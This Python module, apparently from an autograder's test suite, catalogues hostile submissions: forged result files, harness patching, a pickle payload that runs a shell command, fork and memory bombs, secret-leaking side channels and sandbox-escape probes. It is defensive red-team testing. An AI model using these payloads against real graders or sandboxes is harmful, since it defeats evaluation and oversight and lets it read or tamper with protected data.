"""The catalogue of hostile submissions the grader must survive (01_tf_basics).

Each :class:`Attack` names a behaviour, builds its notebook from the solution (so its
honest score is known) and says, per backend, which exercises it must lose and how.
``tests/test_adversarial.py`` grades the whole catalogue on both backends and prints
the case / backend / outcome table. Placeholders in sources: ``__OUT__`` (the grader's
output folder, which a forger targets), ``__MARK__`` (a host path that must never
appear: it proves no payload ran outside the sandbox) and ``__SECRETS__``.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from autograder.assignments.course import find_assignment
from tests import nbfactory

A = "01_tf_basics"
DEEP = "03_deep_network"
BOTH = ("local", "docker")


class Course:
    """Points and solution answers of one assignment."""

    def __init__(self, name: str):
        self.name = name
        self.sol = nbfactory.solution_answers(name)
        self.checks = find_assignment(name).checkset(hidden=True).checks
        self.full = float(sum(c.points for c in self.checks))
        exercises = dict.fromkeys(c.exercise for c in self.checks)
        self.points = {e: sum(c.points for c in self.checks if c.exercise == e) for e in exercises}
        self.hidden_points = {e: sum(c.points for c in self.checks if c.exercise == e and c.hidden)
                              for e in exercises}
        # A public check with unpublished siblings earns nothing when they fail (points for work):
        # an answer that goes wrong on hidden inputs loses these too.
        backed = {c.sibling_of for c in self.checks if getattr(c, "sibling_of", "")}
        self.sibling_backed = {e: sum(c.points for c in self.checks if c.exercise == e and not c.hidden
                                      and c.name in backed) for e in exercises}


COURSES = {name: Course(name) for name in (A, DEEP)}
SOL = COURSES[A].sol
CHECKS = COURSES[A].checks
FULL = COURSES[A].full


def before(fn: str, code: str, assignment: str = A) -> str:
    """The solution of ``fn`` with ``code`` run first in its body."""
    head, _, rest = COURSES[assignment].sol[f"answer_{fn}"].partition(":\n")
    body = "".join(f"    {line}\n" for line in code.strip("\n").splitlines())
    return f"{head}:\n{body}{rest}"


def returning(fn: str, code: str, assignment: str = A) -> str:
    """``fn`` with the solution's signature whose body is ``code`` (which returns)."""
    sol = COURSES[assignment].sol[f"answer_{fn}"]
    head = sol.partition(":\n")[0]
    prelude = "\n".join(line for line in sol.splitlines() if line.startswith(("import", "from")))
    return f"{prelude}\n{head}:\n" + "".join(f"    {line}\n" for line in code.strip("\n").splitlines())


@dataclass(frozen=True)
class Attack:
    name: str                      # the submission's file name: says what it does
    category: str
    case: str                      # for the table
    answers: dict = field(default_factory=dict)   # exercise -> source
    extra: tuple = ()              # (grade_id or None, source) top-level cells
    solved: bool = True            # False: the stub, honest score 0
    lost: dict = field(default_factory=dict)      # backend -> {exercise: outcome}
    hidden_lost: tuple = ()        # exercises whose hidden checks fail (so do public checks with siblings)
    backends: tuple = BOTH
    assignment: str = A
    file_name: str = ""            # of the notebook, when not the attack's name

    def expected_lost(self, backend: str) -> dict:
        return self.lost.get(backend, self.lost.get("any", {}))

    def honest(self, backend: str) -> float:
        if not self.solved:
            return 0.0
        course = COURSES[self.assignment]
        lost = set(self.expected_lost(backend))
        return (course.full - sum(course.points[e] for e in lost)
                - sum(course.hidden_points[e] + course.sibling_backed[e] for e in self.hidden_lost if e not in lost))

    @property
    def student(self) -> str:
        return self.file_name or self.name

    def build(self, folder, out, mark, secrets=(), host: dict | None = None) -> None:
        """``host``: what the test knows of the machine (placeholders __NAME__ -> value)."""
        values = {"OUT": str(out), "MARK": str(mark), "CANARY": str(mark.parent / "canary"),
                  "SECRETS": [secret[::-1] for secret in secrets], **(host or {})}

        def fill(source: str) -> str:
            for key, value in values.items():
                source = source.replace(f"__{key}__", repr(value))
            return source

        nbfactory.make(folder / f"{self.student}.ipynb", self.assignment, solved=self.solved,
                       answers={k: fill(v) for k, v in self.answers.items()},
                       extra=[(gid, fill(src)) for gid, src in self.extra])


def lose(exercise: str, outcome: str | tuple[str, ...], **per_backend: str) -> dict:
    """Loses ``exercise`` with ``outcome`` (or a backend's own outcome; a tuple: any of them)."""
    out = {"any": {exercise: outcome}}
    for backend, other in per_backend.items():
        out[backend] = {exercise: other}
    return out


# ---------------------------------------------------------------- forgery and subversion

FAKE = """{"student": "x", "assignment": "01_tf_basics", "status": "graded", "score": 22.0, "max_score": 22.0}"""

FORGE_FILES = f"""
import json, os
fake = json.loads('{FAKE}')
for folder in (os.getcwd(), os.path.expanduser("~"), "/tmp", os.environ.get("TMPDIR", "/tmp"),
               os.path.join(__OUT__, "results", "01_tf_basics")):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "forges_result_files.json"), "w") as fh:
            json.dump(fake, fh)
    except OSError:
        pass
"""

FAKE_LINES = f"""
import sys
print('{FAKE}')
print('{{"student": "prints_fake_scores", "status": "graded", "score": 22.0, "max_score": 22.0}}')
sys.stdout.write("Score: 22/22\\nAll tests passed!\\n")
sys.stderr.write("Score: 22/22\\n")
"""

ATEXIT = f"""
import atexit, json, os
def _forge():
    with open(os.path.join(__OUT__, "results", "01_tf_basics", "atexit_hook_rewrites.json"), "w") as fh:
        fh.write('{FAKE}')
atexit.register(_forge)
"""

REWRITER = f"""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        target = os.path.join(__OUT__, "results", "01_tf_basics", "detached_rewriter.json")
        end = time.time() + 120
        while time.time() < end:  # detached_rewriter_marker
            try:
                os.makedirs(os.path.dirname(target), exist_ok=True)
                with open(target, "w") as fh:
                    fh.write('{FAKE}')
            except OSError:
                pass
            time.sleep(0.05)
        os._exit(0)
    os._exit(0)
os.wait()
"""

REBIND = """
import builtins, math, sys, types
import numpy, numpy.testing
numpy.allclose = numpy.isclose = numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
math.isclose = lambda *a, **k: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
for name in ("numpy.testing", "autograder.checks.rules", "autograder.checks.judge"):
    sys.modules[name] = types.ModuleType(name)
"""

# The harness, found through sys.modules and gc: every function replaced, and each
# answer forges an "ok" observation for the check in progress on the event channel.
HARNESS = r"""
import gc, json, sys
gc.unfreeze()  # what a fork server froze is searched too
def _fake(*args, **kwargs):
    return {"status": "ok", "values": {"value": {"t": "float", "v": 42.0}}}
for name, module in list(sys.modules.items()):
    if name.startswith(("autograder", "_autograder")):
        for attr, obj in list(vars(module).items()):
            if callable(obj) and not isinstance(obj, type):
                try:
                    setattr(module, attr, _fake)
                except Exception:
                    pass
def _forge(*args, **kwargs):
    for obj in gc.get_objects():
        if type(obj).__name__ == "Channel" and hasattr(obj, "fd"):
            for check in [o for o in gc.get_objects() if type(o).__name__ == "Check"]:
                line = {"ev": "check_end", "id": check.id, "status": "ok",
                        "values": {"value": {"t": "float", "v": 42.0}}}
                try:
                    import os
                    os.write(obj.fd, (json.dumps(line) + "\n").encode())
                except OSError:
                    pass
    return 42.0
for fn in ("build_linear_graph", "evaluate", "variables_model", "feed_placeholder", "describe_tensor",
           "unique_shapes", "elementwise_ops", "eager_linear"):
    globals()[fn] = _forge
"""

PICKLE_PAYLOAD = r"""
import base64, gc, io, json, os, pickle
class _Boom:
    def __reduce__(self):
        return (os.system, ("touch " + __MARK__,))
npy = io.BytesIO()
import numpy as _np
_np.save(npy, _np.array([_Boom()], dtype=object), allow_pickle=True)
blob = base64.b64encode(npy.getvalue()).decode()
gc.unfreeze()  # what a fork server froze is searched too
ids = [o.id for o in gc.get_objects() if type(o).__name__ == "Check" and o.exercise == "eager_linear"]
for obj in gc.get_objects():
    if type(obj).__name__ == "Channel" and hasattr(obj, "fd"):
        for check_id in ids:  # only the check in progress is taken, and its first report
            os.write(obj.fd, (json.dumps({"ev": "check_end", "id": check_id, "status": "ok",
                                          "values": {"value": {"t": "array", "npy": blob}}}) + "\n").encode())
"""

GLOBAL_STATE = """
import random
import numpy as np
import tensorflow as tf
tf.random.set_seed(12345)
np.random.seed(54321)
random.seed(7)
tf.config.experimental.enable_tensor_float_32_execution(True)
tf.keras.backend.set_floatx("float64")
tf.compat.v1.set_random_seed(999)
"""

LIAR_FLOAT = """
class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __float__(self): return float(x * w + b)
return Liar(-1e6)
"""

UFUNC_LIAR = """
import numpy as np
class Sneaky(np.ndarray):
    def __array_ufunc__(self, *args, **kwargs):
        return np.zeros(4, dtype=bool) | True
    def __eq__(self, other):
        return np.ones(4, dtype=bool)
return np.zeros(4, dtype=np.float32).view(Sneaky)
"""

SLEEPY_OBJECT = """
import time
class Sleepy:
    def __float__(self): time.sleep(10**6)
    def __array__(self, *a, **k): time.sleep(10**6)
    def __len__(self): time.sleep(10**6)
return Sleepy()
"""

RAISING_ARRAY = """
class Bad:
    def __array__(self, *a, **k): raise RuntimeError("no")
    def __float__(self): raise RuntimeError("no")
names = ["add", "subtract", "multiply", "divide", "mod", "abs", "negative", "sign", "reciprocal", "square",
         "round", "sqrt", "pow", "exp", "log"]
return {n: Bad() for n in names}
"""

# ---------------------------------------------------------------- control flow and resources

# An unterminated line on the grader's event pipe must not swallow what comes after it.
GARBLE = """import os
for fd in range(1, 64):
    try:
        os.write(fd, b'{"ev": "end", "nonce": "')
    except OSError:
        pass
os._exit(0)"""
MEMORY_BOMB = "_hog = []\nwhile True:\n    _hog.append(bytearray(100 * 2**20))"
FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
THREADS = """
import threading, time
started = []
try:
    for _ in range(10000):
        t = threading.Thread(target=time.sleep, args=(5,), daemon=True)
        t.start()
        started.append(t)
finally:
    print("THREADS STARTED", len(started))
"""
DISK_FILLER = """
n = 0
while True:
    with open(f"fill{n}", "wb") as fh:
        for _ in range(300):
            fh.write(b"x" * 2**20)
    n += 1
"""
GIGABYTE = "import sys\n_chunk = 'x' * 2**20\nfor _ in range(1024):\n    sys.stdout.write(_chunk)\nsys.stdout.flush()"
DISPLAYS = "from IPython.display import display\nfor _i in range(100000):\n    display(_i)"

# ---------------------------------------------------------------- confidentiality

# Looks through its own memory, every stack and the environment for what only the
# grader should know; finding anything makes the answer wrong (and is printed). The
# needles exist only reversed (compared with reversed text), so neither this cell's
# source nor an earlier call's leftovers can match them.
SEARCH_MEMORY = r"""
import gc, os, sys
gc.unfreeze()  # what a fork server froze is searched too
gc.collect()
_rneedles = ["NOITULOS NIGEB ###", "STSET NEDDIH NIGEB ###"] + __SECRETS__
_found = set()
def _look(value):
    if isinstance(value, bytes):
        value = value.decode("latin-1")
    if isinstance(value, str) and len(value) < 10**7:
        reversed_text = value[::-1]
        _found.update(n for n in _rneedles if n in reversed_text)
for _obj in gc.get_objects():
    if isinstance(_obj, dict):
        for _k, _v in list(_obj.items())[:1000]:
            _look(_k)
            _look(_v)
    elif isinstance(_obj, (list, tuple)):
        for _v in list(_obj)[:1000]:
            _look(_v)
for _frame in sys._current_frames().values():
    while _frame is not None:
        for _v in list(_frame.f_locals.values()):
            _look(_v)
        _frame = _frame.f_back
for _k, _v in os.environ.items():
    _look(_k + "=" + _v)
del _obj, _frame
print("SECRETS FOUND", sorted(_found))
"""

# Tries every channel to carry hidden inputs into the feedback a student reads.
SMUGGLE_FEED = """
import os
if list(xs) != [1.0, 2.0, 3.0, 4.0] or (w, b) != (6.0, 1.5):
    raise type("LEAK_" + "_".join(str(v).replace(".", "p").replace("-", "m") for v in xs), (Exception,), {})(
        f"LEAK inputs={list(xs)} w={w} b={b} env={dict(os.environ)}")
"""
SMUGGLE_DESCRIBE = """
if not (value == 483 or value == [1.1, 2.2, 3.3] or value == [[1, 2, 3], [4, 5, 6], [7, 8, 9]]):
    return {"rank": 0, "shape": (), "dtype": "LEAK " + repr(value)[:40]}
"""
SMUGGLE_OPS = """
import numpy as np
if list(a) != [4.0, 9.0, -2.5, 0.5, 0.0]:  # the public input (a zero in a)
    return {op: np.zeros(31337, dtype=np.float32) for op in ["add", "subtract", "multiply", "divide", "mod",
            "abs", "negative", "sign", "reciprocal", "square", "round", "sqrt", "pow", "exp", "log"]}
"""
SMUGGLE_EAGER = """
if (x, w, b) not in ((1.0, 6.0, 1.5), (0.37, -2.913, 0.0482)):  # the public inputs
    return type("LEAK_" + str(x).replace(".", "p").replace("-", "m"), (), {})()
"""
PRINT_ENV = "import os\nprint('ENVIRONMENT', dict(os.environ))"

# ---------------------------------------------------------------- what only the grader should have

# The red team's catalogue exploit: each known mistake is the exercise written almost right,
# so one fixed token per entry gives a working answer. Searched where a run could hold it:
# sys.modules and every live object.
MISTAKE_EXPLOIT = r"""
import gc, sys
gc.unfreeze()  # what a fork server froze is searched too
_sources = []
for _name, _module in list(sys.modules.items()):
    for _item in list(getattr(_module, "MISTAKES", []) or []):
        _sources.append(getattr(_item, "source", ""))
for _obj in gc.get_objects():
    if type(_obj).__name__ == "Mistake":
        _sources.append(getattr(_obj, "source", ""))
_fixes = [("tf.truncatemod(a, b)", "tf.math.mod(a, b)"), ('"round": half_up', '"round": tf.round(a)'),
          ("shape=[None, 1]", "shape=[None]"), (".reshape(-1, 1)", ".reshape(-1)"), ("* w)", "* w + b)")]
for _source in dict.fromkeys(_sources):
    for _old, _new in _fixes:
        _source = _source.replace(_old, _new)
    try:
        exec(_source, globals())
    except Exception:
        pass
print("MISTAKES FOUND", len(set(_sources)))
"""

# During its public check, looks everywhere for the hidden checks' inputs and, if it finds
# any, puts them in the exception it raises: a public message quotes its text.
PUBLIC_LEAK = r"""
import gc, sys
gc.unfreeze()  # what a fork server froze is searched too
_found = []
for _obj in gc.get_objects():
    if type(_obj).__name__ == "Check" and getattr(_obj, "hidden", False):
        _found.append(repr(getattr(_obj, "args", None)))
for _name in list(sys.modules):
    if "hidden" in _name:
        _found.append(_name)
if _found:
    raise RuntimeError("LEAKED " + " | ".join(_found)[:400])
"""

# A builtin exception class chosen by the input: ~86 names would carry ~6 bits per hidden check.
CLASS_CHANNEL = """
if (x, w, b) != (1.0, 6.0, 1.5):
    raise [ZeroDivisionError, KeyError, IndexError, OverflowError][int(abs(x * 10)) % 4]("LEAKCLASS")
"""

# ---------------------------------------------------------------- the event channel is the student's too

_CHANNEL = r"""
import gc, json, os, sys
gc.unfreeze()  # what a fork server froze is searched too
def _fd():
    for _obj in gc.get_objects():
        if type(_obj).__name__ == "Channel" and isinstance(getattr(_obj, "fd", None), int):
            return _obj.fd
def _check_in_progress():
    _frame = sys._getframe(1)
    while _frame is not None:
        if "check_id" in _frame.f_locals:
            return _frame.f_locals["check_id"]
        _frame = _frame.f_back
def _send(event):
    os.write(_fd(), ("\n" + json.dumps(event) + "\n").encode())
"""

# A well-formed observation of the check in progress, saying what a right answer would
# (its value computed with numpy, no graph), then the process ends before the real one.
FORGE_GRAPH_CLAIMS = _CHANNEL + r"""
import numpy as np
from autograder.checks.plaindata import encode
_value = np.asarray(x, np.float32) * np.float32(w) + np.float32(b)
_send({"ev": "check_end", "id": _check_in_progress(), "status": "ok",
       "values": {k: encode(v) for k, v in {"returns_graph": True, "returns_graph_tensor": True,
                                             "tensor_in_graph": True, "fresh_graph": True,
                                             "dtype": "float32", "value": _value}.items()}})
os._exit(0)
"""

# The right value forged for the check in progress, and a wrong one returned: the real
# observation follows the forged one.
FORGE_THEN_RETURN = _CHANNEL + r"""
from autograder.checks.plaindata import encode
_send({"ev": "check_end", "id": _check_in_progress(), "status": "ok",
       "values": {"value": encode(float(x * w + b))}})
return -1.0
"""

# What made a grade a "grader error" (never stored, the batch exits 1) before. The forged
# observation is followed by the real one, which the grader takes as a forgery of its own.
NESTED_EVENT = _CHANNEL + r"""
os.write(_fd(), b"\n" + b"[" * 200000 + b"]" * 200000 + b"\n")
"""
HUGE_NUMBER = _CHANNEL + r"""
_send({"ev": "check_end", "id": _check_in_progress(), "status": "ok",
       "values": {"static": {"t": "int", "v": 10 ** 400}, "dynamic": {"t": "int", "v": 10 ** 400}}})
"""
WHERE_DICT = _CHANNEL + r"""
_send({"ev": "check_end", "id": _check_in_progress(), "status": "error", "kind": "student",
       "exc_type": "ValueError", "message": "m", "where": {"line": {"deep": [1, 2]}}})
"""
SCRATCH_LINKS = """
import os
os.makedirs("inner/deeper", exist_ok=True)
for _link in ("to_canary", "inner/to_canary", "inner/deeper/to_canary"):
    try:
        os.symlink(__CANARY__, _link)
    except OSError:
        pass
try:
    os.symlink("/", "inner/to_root")
except OSError:
    pass
"""
# Re-announces the check in progress every second, as if it had just started.
DEADLINE_RESET = _CHANNEL + r"""
import time
_id = _check_in_progress()
for _ in range(25):
    _send({"ev": "check_start", "id": _id})
    time.sleep(1)
"""
NEWLINE_FLOOD = _CHANNEL + r"""
for _ in range(4):
    os.write(_fd(), b"\n" * 2**20)
"""
OPEN_FILES = """
_held = []
try:
    for _ in range(20000):
        _held.append(open("/dev/null"))
except OSError:
    pass
_opened = len(_held)
for _f in _held:
    _f.close()
print("OPENED", _opened)
if _opened >= 20000:
    return None
"""

# ---------------------------------------------------------------- 03: properties measured by the student's process

LYING_COMPARISON = """
return {"linear": 0.0, "deep": 1.0}
"""
# An untrained network whose predict looks up the labels of the points it was trained on.
MEMORISING_TRAINING = """
import numpy as np
keras.utils.set_random_seed(seed)
model = keras.Sequential([keras.Input(shape=(2,))] + [keras.layers.Dense(u, activation="relu") for u in hidden_units]
                         + [keras.layers.Dense(1, activation="sigmoid")])
model.compile(optimizer=keras.optimizers.Adam(learning_rate), loss="binary_crossentropy")
_table = {tuple(np.round(np.asarray(p, np.float64), 5)): float(l) for p, l in zip(X, labels)}
def _lookup(points, *args, **kwargs):
    return np.array([[_table.get(tuple(np.round(np.asarray(p, np.float64), 5)), 0.0)] for p in points], np.float32)
model.predict = _lookup
model.__call__ = _lookup
return model, [float(v) for v in np.linspace(0.7, 0.05, epochs)]
"""
FORGE_MODEL_CLAIMS = _CHANNEL + r"""
from autograder.checks.plaindata import encode
_claims = {"units": [u for u in hidden_units] + [1], "activations": ["relu"] * len(hidden_units) + ["sigmoid"],
           "other_layers": [], "loss": "binary_crossentropy", "compiled": True, "output_shape": [10, 1],
           "repeatable": True, "seed_matters": True, "in_unit_interval": True}
_send({"ev": "check_end", "id": _check_in_progress(), "status": "ok",
       "values": {k: encode(v) for k, v in _claims.items()}})
os._exit(0)
"""

# ---------------------------------------------------------------- escapes (the container's promises)

def escaping(fn: str, search: str) -> str:
    """``fn``, correct unless ``search`` (which fills ``escaped``) finds a way out."""
    return before(fn, "escaped = []\n" + search + "if escaped:\n    print('ESCAPED', escaped)\n    return None")


NETWORK = r"""import socket
for host, port in (("1.1.1.1", 53), ("127.0.0.1", 2375), ("127.0.0.1", __PORT__), ("172.17.0.1", 22),
                   ("169.254.169.254", 80), ("pypi.org", 443)):
    try:
        socket.create_connection((host, port), timeout=2).close()
        escaped.append(f"{host}:{port}")
    except OSError:
        pass
for path in ("/var/run/docker.sock", "/run/docker.sock"):
    try:
        with socket.socket(socket.AF_UNIX) as unix:
            unix.connect(path)
            escaped.append(path)
    except OSError:
        pass
"""

FILESYSTEM_SECRETS = r"""import os
WANTED = ("mistakes.py", "hidden_checks.py", "public_reference.json", "gradebook.sqlite")
for top in ("/",):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if not (root == "/" and d in ("proc", "sys", "dev"))]
        for f in files:
            if (f.endswith(".ipynb") and f[:2].isdigit()) or f in WANTED or (f.endswith(".json") and "references" in root):
                escaped.append(os.path.join(root, f))
"""  # the Docker socket's existence tells nothing; connecting to it is network_access's

# Creates (never overwrites) one marker file in every place a run must not write to, the
# grader's working folder found through /proc/<pid>/cwd included; the test removes any.
WRITES_AND_PRIVILEGES = r"""import glob, os
_name = __TOKEN__ + "-" + str(os.getpid())
_places = ["/", "/etc", "/tmp", "/var/tmp", "/dev/shm", "/job", "/opt/venv", "/opt/grader/autograder",
           __OUT__, __CACHE__, os.path.join(__CACHE__, "references"), __HOME__, __ROOT__,
           os.path.join(__ROOT__, "solutions"), os.path.join(__ROOT__, "autograder")]
_places += [f"/proc/{pid}/cwd" for pid in range(1, 4096) if pid != os.getpid()]
if __BACKEND__ == "docker":
    _places.remove("/dev/shm")  # the container's own, emptied after each run (see leaves_files_for_the_next_run)
for place in _places:
    try:
        if os.path.samefile(place, os.getcwd()):
            continue  # its own scratch folder, by another name
    except OSError:
        pass
    try:
        os.close(os.open(os.path.join(place, _name), os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
        escaped.append(place)
    except OSError:
        pass
try:
    os.setuid(0)
except OSError:
    pass
if os.getuid() == 0 or os.geteuid() == 0:  # no sandbox runs student code as root
    escaped.append("root")
import subprocess
try:
    if subprocess.run(["mount", "-t", "tmpfs", "none", os.getcwd()], capture_output=True).returncode == 0:
        escaped.append("mount")
except OSError:
    pass
"""

# Reads what only the grader may read: the solution (also through /proc/<pid>/cwd), the
# mistake catalogue, the hidden checks, the reference cache, the gradebook, and a file the
# test left in the host's /tmp as another run or user would.
READS_GRADER_FILES = r"""import glob, os
_targets = [os.path.join(__ROOT__, "solutions", "01_tf_basics", name)
            for name in ("01_tf_basics.ipynb", "mistakes.py", "hidden_checks.py")]
_targets += glob.glob(os.path.join(__CACHE__, "references", "*.json")) + [os.path.join(__CACHE__, "references")]
_targets += [os.path.join(__OUT__, "gradebook.sqlite"), __LEFT_IN_TMP__, os.path.join(__HOME__, ".bash_history")]
_targets += [f"/proc/{pid}/cwd/solutions/01_tf_basics/01_tf_basics.ipynb" for pid in range(1, 4096)]
for target in _targets:
    try:
        if os.path.isdir(target):
            os.listdir(target)
        else:
            with open(target, "rb") as fh:
                fh.read(16)
        escaped.append(target)
    except OSError:
        pass
"""

# Looks at and probes (signal 0: never harms) the host's processes, a victim the test started among them.
SEES_HOST_PROCESSES = r"""import os
try:  # a container's own /proc lists its own few processes only
    _listed = [int(n) for n in os.listdir("/proc") if n.isdigit()]
    if __VICTIM__ in _listed or len(_listed) > 16:
        escaped.append(f"/proc lists {len(_listed)} processes")
except OSError:
    pass
def _exists(pid):  # without a PID namespace, a refused signal (EPERM) still tells a process is there
    try:
        os.kill(pid, 0)
        return True
    except PermissionError:
        return __PID_NAMESPACE__
    except OSError:
        return False
if _exists(__VICTIM__):
    escaped.append("victim")
_seen = [pid for pid in range(1, 4096) if _exists(pid)]
if len(_seen) > 16 and __PID_NAMESPACE__:
    escaped.append(f"{len(_seen)} pids")
"""

# Tries the grader's own machinery: an override in the gradebook, a reference cache entry
# opened for writing (never written), the warm server's socket, modules planted where a
# server or a later run might import them.
TAMPERS_WITH_THE_GRADER = r"""import glob, os, socket
try:
    import sqlite3
    _db = sqlite3.connect(os.path.join(__OUT__, "gradebook.sqlite"), timeout=1)
    _db.execute("INSERT OR REPLACE INTO overrides VALUES ('tampers_with_the_grader', '01_tf_basics', 22, 'x', 'x')")
    _db.commit()
    escaped.append("gradebook")
except Exception:
    pass
for entry in glob.glob(os.path.join(__CACHE__, "references", "*.json")):
    try:
        os.close(os.open(entry, os.O_WRONLY))
        escaped.append(entry)
    except OSError:
        pass
for path in glob.glob("/tmp/autograder-warm-*/s") + ["\0autograder-sandbox"]:
    try:  # a request served (any reply) would be a run outside this one's supervision
        with socket.socket(socket.AF_UNIX) as unix:
            unix.connect(path)
            _r, _w = os.pipe()
            socket.send_fds(unix, [b"run"], [_r, 1, 2])
            os.close(_w)  # a run started on it would end at once, and its end report come back
            unix.settimeout(1)  # within its check's time limit (a few seconds)
            if unix.recv(64):
                escaped.append("server socket")
    except OSError:
        pass
_plant = "import os\nos.close(os.open(" + repr(__MARK__) + ", os.O_CREAT | os.O_WRONLY))\n"
for folder in (os.getcwd(), os.path.expanduser("~"), "/", __ROOT__):
    for module in ("secrets.py", "json.py", "autograder.py", "numpy.py"):
        try:
            with open(os.path.join(folder, module), "x") as fh:
                fh.write(_plant)
        except OSError:
            pass
"""

# The kernel keyrings outlive a run and cross namespaces: one run (the hidden one) could store
# what it found for a later one (a public run, whose messages quote it) to read.
USES_KEYRINGS = r"""import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_add_key, _keyctl = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
for ring in (-3, -4, -5):  # the session, user and user-session keyrings
    if _libc.syscall(_add_key, b"user", b"autograder-left", b"hidden inputs", 13, ring) >= 0:
        escaped.append(f"keyring {ring}")
    if _libc.syscall(_keyctl, 11, ring, None, 0) >= 0:  # KEYCTL_READ: the ring's key ids
        escaped.append(f"read keyring {ring}")
"""

# Changes what Landlock does not cover, on a file the test left for it: permissions, times,
# extended attributes (a TA's own files, in the grader's user's own run).
CHANGES_METADATA = r"""import os
for name, call in (("chmod", lambda: os.chmod(__LEFT_IN_TMP__, 0o777)),
                   ("utime", lambda: os.utime(__LEFT_IN_TMP__, (0, 0))),
                   ("xattr", lambda: os.setxattr(__LEFT_IN_TMP__, "user.left", b"x")),
                   ("truncate", lambda: os.truncate(__LEFT_IN_TMP__, 0))):
    try:
        call()
        escaped.append(name)
    except OSError:
        pass
"""

# Leaves files in its scratch folder and /dev/shm; a later run (its own hidden run, or the
# next submission) must never see them.
LEAVES_FILES = r"""import glob, os, uuid
_me = globals().setdefault("_LEFT_BY", uuid.uuid4().hex)  # this process's own
for folder in (os.getcwd(), "/dev/shm", os.environ.get("TMPDIR", "/tmp")):
    if [f for f in glob.glob(os.path.join(folder, "LEFT-BY-A-RUN-*")) if not f.endswith(_me)]:
        escaped.append(folder)
    try:
        os.close(os.open(os.path.join(folder, "LEFT-BY-A-RUN-" + _me), os.O_CREAT | os.O_WRONLY, 0o644))
    except OSError:
        pass
"""

ATTACKS = [
    Attack("forges_result_files", "forgery", "fake result JSON in cwd, HOME, /tmp, TMPDIR and the grader's results folder",
           extra=((None, FORGE_FILES),), solved=False),
    Attack("prints_fake_scores", "forgery", "fake score lines and result JSON on stdout/stderr",
           extra=((None, FAKE_LINES),), solved=False),
    Attack("atexit_hook_rewrites", "forgery", "an atexit hook that writes a fake result",
           extra=((None, ATEXIT),), solved=False),
    Attack("detached_rewriter", "forgery", "a detached (double-forked, setsid) process rewriting its result file",
           extra=((None, REWRITER),), solved=False),
    Attack("rebinds_checkers", "subversion", "numpy.allclose/isclose/testing, math.isclose, AssertionError and "
           "sys.modules entries rebound", extra=((None, REBIND),), solved=False),
    Attack("patches_harness_via_gc", "subversion", "every harness function found through sys.modules replaced; "
           "forged 'ok' observations written to the event channel found through gc",
           extra=((None, HARNESS),), solved=False),
    Attack("lying_float_subclass", "lying answer", "float subclass whose __eq__/arithmetic always agree",
           answers={"eager_linear": returning("eager_linear", LIAR_FLOAT)}, lost=lose("eager_linear", "wrong")),
    Attack("ufunc_ndarray_subclass", "lying answer", "ndarray subclass overriding __array_ufunc__ and __eq__",
           answers={"feed_placeholder": returning("feed_placeholder", UFUNC_LIAR)},
           lost=lose("feed_placeholder", "wrong")),
    Attack("sleeping_conversions", "lying answer", "an object whose __float__/__array__/__len__ sleep forever",
           answers={"evaluate": returning("evaluate", SLEEPY_OBJECT)}, lost=lose("evaluate", "wrong")),
    Attack("raising_conversions", "lying answer", "a dict of objects whose __array__/__float__ raise",
           answers={"elementwise_ops": returning("elementwise_ops", RAISING_ARRAY)},
           lost=lose("elementwise_ops", "wrong")),
    Attack("huge_array_for_a_scalar", "lying answer", "a 300 M-element array where a number is expected",
           answers={"eager_linear": returning("eager_linear", "import numpy as np\nreturn np.zeros(300_000_000, np.int8)")},
           lost=lose("eager_linear", "wrong")),
    Attack("pickle_payload", "lying answer", "an observation forged with a pickled object whose __reduce__ runs a command",
           answers={"eager_linear": before("eager_linear", PICKLE_PAYLOAD)}, lost=lose("eager_linear", "error")),
    Attack("changes_tf_global_state", "subversion", "seeds, TF32 and floatx changed at the top level",
           extra=((None, GLOBAL_STATE),)),
    Attack("keyboard_interrupt", "control flow", "KeyboardInterrupt raised from a function",
           answers={"eager_linear": before("eager_linear", "raise KeyboardInterrupt")},
           lost=lose("eager_linear", "error")),
    Attack("sys_exit_in_function", "control flow", "sys.exit(0) inside a function",
           answers={"unique_shapes": before("unique_shapes", "import sys\nsys.exit(0)")},
           lost=lose("unique_shapes", "error")),
    Attack("os_exit_in_function", "control flow", "os._exit(0) inside a function",
           answers={"describe_tensor": before("describe_tensor", "import os\nos._exit(0)")},
           lost=lose("describe_tensor", "crashed")),
    Attack("garbles_event_channel", "control flow", "half a JSON line written to every open descriptor, then os._exit",
           answers={"describe_tensor": before("describe_tensor", GARBLE)},
           lost=lose("describe_tensor", "crashed")),
    Attack("sigkill_to_itself", "control flow", "SIGKILL to its own process",
           answers={"elementwise_ops": before("elementwise_ops", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")},
           lost=lose("elementwise_ops", "crashed")),
    Attack("segfault", "control flow", "a segmentation fault (ctypes.string_at(0))",
           answers={"eager_linear": before("eager_linear", "import ctypes\nctypes.string_at(0)")},
           lost=lose("eager_linear", "crashed")),
    Attack("infinite_loop", "resources", "an infinite loop",
           answers={"variables_model": before("variables_model", "while True:\n    pass")},
           lost=lose("variables_model", "timeout")),
    Attack("long_sleep", "resources", "time.sleep(10**6)",
           answers={"feed_placeholder": before("feed_placeholder", "import time\ntime.sleep(10**6)")},
           lost=lose("feed_placeholder", "timeout")),
    Attack("memory_bomb", "resources", "allocates 100 MB after 100 MB",
           answers={"build_linear_graph": before("build_linear_graph", MEMORY_BOMB)},
           lost=lose("build_linear_graph", ("error", "timeout"))),  # whichever limit it reaches first
    Attack("fork_bomb", "resources", "forks without end",
           answers={"describe_tensor": before("describe_tensor", FORK_BOMB)}, lost=lose("describe_tensor", "timeout")),
    Attack("ten_thousand_threads", "resources", "starts 10 000 threads",
           answers={"unique_shapes": before("unique_shapes", THREADS)}, lost=lose("unique_shapes", "error")),
    Attack("disk_filler", "resources", "writes 300 MB files until the disk is full",
